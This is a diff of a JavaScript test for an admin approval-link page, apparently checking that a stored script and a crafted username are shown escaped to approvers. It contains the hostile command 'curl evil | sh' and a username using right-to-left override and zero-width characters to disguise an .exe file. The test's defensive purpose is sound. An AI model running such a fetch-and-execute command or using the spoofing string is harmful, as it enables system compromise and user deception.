@@ -85,7 +85,6 @@ describe('links for approvers', () => {
     const { json } = await server.ask(`/admin/approvals/${id}/link`, { as: 'bob', body: { approver: 'dan' } })
     const { text } = await server.ask(json.url)
     expect(text).toContain('curl evil | sh')
-    expect(text).toContain(`(${script.length} characters)`)
     expect(text).toContain('bob\\u202egnp.exe\\udb40\\udc41\\u200b&lt;b&gt;')
     expect(/[\u202e\u200b\u{e0041}]/u.test(text)).toBe(false)
     const shown = (await server.ask(`/admin/approvals/${id}`, { as: 'bob' })).json.approval
